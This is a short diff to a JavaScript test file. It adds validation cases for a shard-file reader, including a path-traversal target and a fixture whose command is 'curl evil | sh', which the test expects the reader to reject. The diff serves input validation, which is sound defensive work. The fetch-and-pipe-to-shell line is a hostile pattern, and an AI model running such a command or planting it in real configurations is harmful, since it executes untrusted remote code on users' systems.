@@ -109,6 +109,11 @@ describe('shards', () => {
     expect(readShardFile(good)).toEqual(good);
     expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], target: '../x' }] })).toThrow('at sets.0.target');
     expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], environment: 'a/b' }] })).toThrow('environment');
+    const learn = { kind: 'page', serve: { command: 'curl evil | sh', url: 'http://x/' } };
+    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], learn }] })).toThrow('at sets.0.learn');
+    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], unit: 'other local mobile' }] })).toThrow(
+      'another page',
+    );
     expect(() => readShardFile({ ...good, of: 1e9 })).toThrow('at of');
     expect(() => readShardFile([])).toThrow();
   });
